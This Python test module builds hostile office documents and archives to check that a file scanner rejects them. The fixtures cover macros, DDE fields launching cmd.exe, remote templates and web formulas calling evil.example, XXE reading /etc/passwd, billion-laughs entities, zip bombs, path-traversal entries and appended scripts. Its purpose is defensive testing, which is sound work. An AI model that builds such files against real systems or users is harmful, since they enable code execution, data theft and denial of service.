"""Hostile office files, and hostile archives that say that they are office files."""

import io
import struct
import zipfile
from collections.abc import Callable

from tests.inspection import good
from tests.inspection.hostile import EXE, HTML, OLE, Hostile, R, case

Parts = dict[str, bytes | None]
MIB = 1024 * 1024
NAME = "verklaring.docx"
_MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + number, b"&%c;" % (97 + number) * 10) for number in range(9))
    + b"]><l>&j;</l>"
)
XXE = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]><l>&x;</l>'
OUTER_DTD = b'<?xml version="1.0"?><!DOCTYPE l SYSTEM "https://evil.example/x.dtd"><l/>'
DEEP = b"<a>" * 3_000 + b"</a>" * 3_000


def word(**parts: bytes | None) -> Callable[[], bytes]:
    return lambda: good.docx(**parts)


def body(inner: str) -> Callable[[], bytes]:
    return (
        word(word__document=None)
        if not inner
        else lambda: good.archive((good.docx_parts() | {"word/document.xml": good.word_document(inner)}).items())
    )


def related(what: str, target: str, outside: bool = True) -> Callable[[], bytes]:
    parts = good.docx_parts() | {"word/_rels/document.xml.rels": good.relations((what, target, outside))}
    return lambda: good.archive(parts.items())


def with_part(name: str, content: bytes) -> Callable[[], bytes]:
    return lambda: good.archive((good.docx_parts() | {name: content}).items())


def field(*codes: str) -> Callable[[], bytes]:
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    return body(f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}</w:p>')


def word_cases() -> list[Hostile]:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    made: dict[str, tuple[Callable[[], bytes], R]] = {
        "macro": (with_part("word/vbaProject.bin", OLE), R.MACRO),
        "macro-type": (
            lambda: good.archive((good.docx_parts() | {"[Content_Types].xml": good.types_of(_MACRO_TYPE)}).items()),
            R.MACRO,
        ),
        "macro-relation": (related("vbaProject", "vbaProject.bin", False), R.MACRO),
        "activex": (with_part("word/activeX/activeX1.bin", OLE), R.MACRO),
        "control": (related("activeXControlBinary", "x.bin", False), R.MACRO),
        "ole": (with_part("word/embeddings/oleObject1.bin", OLE), R.EMBEDDED),
        "ole-relation": (related("oleObject", "x"), R.EMBEDDED),
        "exe": (with_part("word/media/setup.exe", EXE), R.EMBEDDED),
        "html": (with_part("word/afchunk.htm", HTML), R.EMBEDDED),
        "chunk": (related("aFChunk", "afchunk.mht", False), R.EMBEDDED),
        "nested-zip": (with_part("word/a.zip", good.archive([("a", b"a")])), R.EMBEDDED),
        "nested-macro": (with_part("word/embeddings/a.docx", good.docx(word__vbaProject=b"") + b""), R.EMBEDDED),
        "nested-twice": (
            with_part("word/embeddings/a.docx", good.changed(good.docx(), {"word/embeddings/b.docx": good.docx()})),
            R.EMBEDDED,
        ),
        "nested-other": (with_part("word/embeddings/a.xlsx", good.docx()), R.MISMATCH),
        "template": (related("attachedTemplate", "https://evil.example/t.dotm"), R.OUTSIDE),
        "template-unc": (related("attachedTemplate", "file:///\\\\evil\\t.dotm"), R.OUTSIDE),
        "template-host": (related("attachedTemplate", "file://evil/t.dotm"), R.OUTSIDE),
        "picture-outside": (related("image", "https://evil.example/1.png"), R.OUTSIDE),
        "frame-outside": (related("frame", "https://evil.example/"), R.OUTSIDE),
        "document-outside": (related("subDocument", "x.docx"), R.OUTSIDE),
        "link-script": (related("hyperlink", "javascript:alert(1)"), R.OUTSIDE),
        "link-protocol": (related("hyperlink", "ms-msdt:/id"), R.OUTSIDE),
        "link-unc": (related("hyperlink", "\\\\evil\\x"), R.OUTSIDE),
        "dde": (field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'), R.FORMULA),
        "dde-split": (field(" DD", "EAU", "TO cmd x"), R.FORMULA),
        "dde-simple": (body('<w:p><w:fldSimple w:instr="DDE cmd x"/></w:p>'), R.FORMULA),
        "include": (field("INCLUDETEXT https://evil.example/x"), R.OUTSIDE),
        "include-picture": (field('INCLUDEPICTURE "//evil/x"'), R.OUTSIDE),
        "laughs": (with_part("word/styles.xml", LAUGHS), R.DAMAGED),
        "entity": (with_part("word/styles.xml", XXE), R.DAMAGED),
        "outer-type": (with_part("word/styles.xml", OUTER_DTD), R.DAMAGED),
        "wide-entity": (with_part("word/styles.xml", XXE.decode().encode("utf-16")), R.DAMAGED),
        "deep": (with_part("word/styles.xml", DEEP), R.DAMAGED),
        "broken": (with_part("word/styles.xml", b"<a><b></a>"), R.DAMAGED),
        "drawing": (with_part("word/media/a.svg", svg), R.SCRIPT),
        "no-types": (word(**{"[Content_Types].xml": None}), R.MISMATCH),
        "bsn": (lambda: good.docx("BSN 123456782"), R.BSN),
        "bsn-split": (
            body("<w:p><w:r><w:t>B</w:t></w:r><w:r><w:t>SN 1234</w:t></w:r><w:r><w:t>56782</w:t></w:r></w:p>"),
            R.BSN,
        ),
        "bsn-table": (
            body(
                "<w:tbl><w:tr><w:tc>"
                + good.paragraph("BSN")
                + "</w:tc><w:tc>"
                + good.paragraph("123456782")
                + "</w:tc></w:tr></w:tbl>"
            ),
            R.BSN,
        ),
        "bsn-title": (with_part("docProps/core.xml", b"<c><title>BSN</title><subject>123456782</subject></c>"), R.BSN),
        "bsn-foot": (with_part("word/footer1.xml", good.word_document(good.paragraph("sofinummer 123456782"))), R.BSN),
    }
    return [case(f"docx-{id_}", NAME, make, reason) for id_, (make, reason) in made.items()]


def book(parts: Parts) -> Callable[[], bytes]:
    return lambda: good.changed(good.xlsx(), parts)


def sheet(cells: str) -> Callable[[], bytes]:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    content = f'<worksheet xmlns="{main}"><sheetData><row>{cells}</row></sheetData></worksheet>'
    return book({"xl/worksheets/sheet1.xml": content.encode()})


def formula(code: str) -> Callable[[], bytes]:
    return sheet(f'<c r="A1"><f>{code}</f><v>0</v></c>')


def link(inner: str) -> Callable[[], bytes]:
    return book({"xl/externalLinks/externalLink1.xml": f"<externalLink>{inner}</externalLink>".encode()})


def staff(count: int = 60) -> bytes:
    """A list in which the number stands far below its heading."""
    rows = [("Naam", "Burgerservicenummer", "Salaris")] + [
        (f"Medewerker {number}", 111111110, 3000) for number in range(count)
    ]
    return good.xlsx([*rows, ("Laatste", 123456782, 3100)])


def excel_cases() -> list[Hostile]:
    names = '<workbook><definedNames><definedName name="_xlnm.Auto_Open">x</definedName></definedNames></workbook>'
    types = good.types_of("application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    made: dict[str, tuple[Callable[[], bytes], R]] = {
        "macro": (book({"xl/vbaProject.bin": OLE}), R.MACRO),
        "macro-type": (book({"[Content_Types].xml": types}), R.MACRO),
        "macrosheet": (book({"xl/macrosheets/sheet1.xml": b"<a/>"}), R.MACRO),
        "starts-itself": (book({"xl/workbook.xml": names.encode()}), R.MACRO),
        "dde": (link('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'), R.FORMULA),
        "ole": (link("<oleLink/>"), R.FORMULA),
        "connection": (
            book(
                {
                    "xl/connections.xml": b'<connections><connection><webPr url="https://evil.example"/></connection></connections>'
                }
            ),
            R.OUTSIDE,
        ),
        "database": (
            book({"xl/connections.xml": b"<connections><connection><dbPr/></connection></connections>"}),
            R.OUTSIDE,
        ),
        "command": (formula("cmd|'/C calc'!A0"), R.FORMULA),
        "service": (formula("_xlfn.WEBSERVICE(&quot;https://evil.example&quot;)"), R.FORMULA),
        "rtd": (formula("RTD(&quot;x&quot;)"), R.FORMULA),
        "call": (formula("CALL(&quot;kernel32&quot;)"), R.FORMULA),
        "image": (formula("_xlfn.IMAGE(A1)"), R.FORMULA),
        "embedded": (book({"xl/embeddings/oleObject1.bin": OLE}), R.EMBEDDED),
        "laughs": (book({"xl/sharedStrings.xml": LAUGHS}), R.DAMAGED),
        "binary": (book({"xl/x.bin": b"x"}), R.EMBEDDED),
        "bsn": (lambda: good.xlsx([("Naam", "BSN"), ("Jansen", 123456782)]), R.BSN),
        "bsn-far": (staff, R.BSN),
        "bsn-words": (lambda: good.xlsx([("BSN: 123456782",)]), R.BSN),
        "bsn-zero": (lambda: good.xlsx([("BSN", ""), (10000008, "")]), R.BSN),
        "bsn-inline": (sheet('<c r="A1" t="inlineStr"><is><t>BSN 123456782</t></is></c>'), R.BSN),
    }
    return [case(f"xlsx-{id_}", "inkomen.xlsx", make, reason) for id_, (make, reason) in made.items()]


def libre_cases() -> list[Hostile]:
    def inner(xml: str) -> Callable[[], bytes]:
        return lambda: good.odt(inner=xml)

    made: dict[str, tuple[Callable[[], bytes], R]] = {
        "basic": (lambda: good.odt(Basic__Standard__Module1__xml=b""), R.MACRO),
        "macro": (lambda: good.changed(good.odt(), {"Basic/Standard/Module1.xml": b"<a/>"}), R.MACRO),
        "python": (lambda: good.changed(good.odt(), {"Scripts/python/x.py": b"import os"}), R.MACRO),
        "listener": (inner('<script:event-listener script:language="ooo:script" xlink:href="x"/>'), R.MACRO),
        "script-link": (inner('<text:a xlink:href="vnd.sun.star.script:x$y?language=Python">x</text:a>'), R.MACRO),
        "script-address": (inner('<text:a xlink:href="javascript:alert(1)">x</text:a>'), R.MACRO),
        "ole": (inner('<draw:object-ole xlink:href="./Object 1"/>'), R.EMBEDDED),
        "applet": (inner("<draw:applet/>"), R.EMBEDDED),
        "plugin": (inner("<draw:plugin/>"), R.EMBEDDED),
        "frame": (inner('<draw:floating-frame xlink:href="x"/>'), R.OUTSIDE),
        "picture": (inner('<draw:image xlink:href="https://evil.example/x.png"/>'), R.OUTSIDE),
        "unc": (inner('<draw:image xlink:href="\\\\evil\\x"/>'), R.OUTSIDE),
        "section": (inner('<text:section-source xlink:href="https://evil.example/x"/>'), R.OUTSIDE),
        "dde": (inner("<office:dde-source/>"), R.FORMULA),
        "file": (lambda: good.changed(good.odt(), {"setup.exe": EXE}), R.EMBEDDED),
        "object": (lambda: good.changed(good.odt(), {"Object 1": OLE}), R.EMBEDDED),
        "laughs": (lambda: good.changed(good.odt(), {"styles.xml": LAUGHS}), R.DAMAGED),
        "entity": (lambda: good.changed(good.odt(), {"styles.xml": XXE}), R.DAMAGED),
        "password": (
            lambda: good.changed(
                good.odt(), {"META-INF/manifest.xml": good.odf_manifest("<manifest:encryption-data/>")}
            ),
            R.PASSWORD,
        ),
        "no-list": (lambda: good.changed(good.odt(), {"META-INF/manifest.xml": None}), R.MISMATCH),
        "bsn": (lambda: good.odt("BSN 123456782"), R.BSN),
    }
    sheets: dict[str, tuple[Callable[[], bytes], R]] = {
        "service": (
            lambda: good.ods(attributes='table:formula="of:=WEBSERVICE(&quot;https://evil.example&quot;)"'),
            R.FORMULA,
        ),
        "dde": (lambda: good.ods(attributes='table:formula="of:=DDE(&quot;cmd&quot;;&quot;x&quot;)"'), R.FORMULA),
        "bsn": (lambda: good.ods([("Naam", "BSN"), *[("Jansen", "1")] * 50, ("Jansen", "123456782")]), R.BSN),
    }
    del made["basic"]
    return [
        *(case(f"odt-{id_}", "brief.odt", make, reason) for id_, (make, reason) in made.items()),
        *(case(f"ods-{id_}", "begroting.ods", make, reason) for id_, (make, reason) in sheets.items()),
    ]


def entry(name: str, mode: int = 0o100644, method: int = zipfile.ZIP_DEFLATED) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.external_attr, info.compress_type = mode << 16, method
    return info


def packed(*more: tuple[str | zipfile.ZipInfo, bytes]) -> bytes:
    file = io.BytesIO(good.docx())
    with zipfile.ZipFile(file, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, content in more:
            archive.writestr(name, content)
    return file.getvalue()


def patched(content: bytes, name: str, at: int, value: bytes) -> bytes:
    """Other bytes in the list's entry of this part, `at` bytes from its beginning."""
    place = content.index(name.encode(), content.index(b"PK\x01\x02")) - 46
    while content[place : place + 4] != b"PK\x01\x02" or content[place + 46 : place + 46 + len(name)] != name.encode():
        place = content.index(name.encode(), place + 47) - 46
    return content[: place + at] + value + content[place + at + len(value) :]


def overlapping() -> bytes:
    """Two entries of the list that point to one part (the way to the largest bombs)."""
    content = packed(("word/a.xml", b"<a/>"), ("word/b.xml", b"<a/>"))
    place = content.index(b"PK\x03\x04", content.index(b"word/a.xml") - 30)
    return patched(content, "word/b.xml", 42, struct.pack("<I", place))


def between() -> bytes:
    """Bytes between the parts and the list, which the list does not know."""
    content = good.docx()
    start = content.index(b"PK\x01\x02")
    hidden = b"<script>alert(1)</script>" * 20
    end = content.rindex(b"PK\x05\x06")
    offset = struct.pack("<I", start + len(hidden))
    return content[:start] + hidden + content[start:end] + content[end : end + 16] + offset + content[end + 20 :]


def commented() -> bytes:
    file = io.BytesIO(good.docx())
    with zipfile.ZipFile(file, "a") as archive:
        archive.comment = HTML
    return file.getvalue()


def many() -> bytes:
    return packed(*((f"word/p{number}.xml", b"<a/>") for number in range(3_100)))


def archive_cases() -> list[Hostile]:
    zeros, words = bytes(40 * MIB), b"<a>" + b" " * (40 * MIB) + b"</a>"
    whole = good.docx()
    lying = struct.pack("<I", 10)
    made: dict[str, tuple[Callable[[], bytes], tuple[R, ...]]] = {
        "bomb": (lambda: packed(("word/media/a.png", zeros)), (R.TOO_MUCH,)),
        "bomb-xml": (lambda: packed(("word/a.xml", words)), (R.TOO_MUCH,)),
        "bomb-lies": (
            lambda: patched(packed(("word/media/a.png", zeros)), "word/media/a.png", 24, lying),
            (R.TOO_MUCH, R.DAMAGED),
        ),
        "bomb-claims": (
            lambda: patched(packed(("word/a.xml", b"<a/>")), "word/a.xml", 24, b"\xff\xff\xff\x7f"),
            (R.TOO_MUCH,),
        ),
        "bomb-overlap": (overlapping, (R.TWO_IN_ONE, R.DAMAGED)),
        "many": (many, (R.TOO_MUCH,)),
        "symlink": (lambda: packed((entry("word/media/a.png", 0o120777), b"/etc/passwd")), (R.DAMAGED,)),
        "device": (lambda: packed((entry("word/media/a.png", 0o020666), b"")), (R.DAMAGED,)),
        "slip": (lambda: packed(("../../evil.xml", b"<a/>")), (R.DAMAGED,)),
        "absolute": (lambda: packed(("/etc/evil.xml", b"<a/>")), (R.DAMAGED,)),
        "backslash": (lambda: packed(("word\\..\\evil.xml", b"<a/>")), (R.DAMAGED,)),
        "drive": (lambda: packed(("c:evil.xml", b"<a/>")), (R.DAMAGED,)),
        "control": (lambda: packed(("word/a\n.xml", b"<a/>")), (R.DAMAGED,)),
        "case-twice": (lambda: packed(("WORD/document.xml", b"<a/>")), (R.DAMAGED,)),
        "encrypted": (lambda: patched(whole, "word/document.xml", 8, b"\x01\x00"), (R.PASSWORD,)),
        "bzip2": (lambda: packed((entry("word/a.xml", method=zipfile.ZIP_BZIP2), b"<a/>")), (R.DAMAGED,)),
        "lzma": (lambda: packed((entry("word/a.xml", method=zipfile.ZIP_LZMA), b"<a/>")), (R.DAMAGED,)),
        "checksum": (lambda: patched(whole, "word/document.xml", 16, b"\x00\x00\x00\x00"), (R.DAMAGED,)),
        "behind": (lambda: whole + b"<script>alert(1)</script>", (R.DAMAGED, R.TWO_IN_ONE)),
        "comment": (commented, (R.TWO_IN_ONE,)),
        "between": (between, (R.TWO_IN_ONE, R.DAMAGED)),
        "cut": (lambda: whole[:-30], (R.DAMAGED,)),
        "head": (lambda: whole[:60], (R.DAMAGED,)),
        "other-name": (lambda: whole.replace(b"word/document.xml", b"word/dokument.xml", 1), (R.DAMAGED,)),
        "program-before": (lambda: EXE + whole, (R.UNKNOWN,)),
        "script-before": (lambda: b"#!/bin/sh\n" + whole, (R.UNKNOWN,)),
    }
    return [case(f"archive-{id_}", NAME, make, *reasons) for id_, (make, reasons) in made.items()]


def of_office() -> list[Hostile]:
    return [*word_cases(), *excel_cases(), *libre_cases(), *archive_cases()]
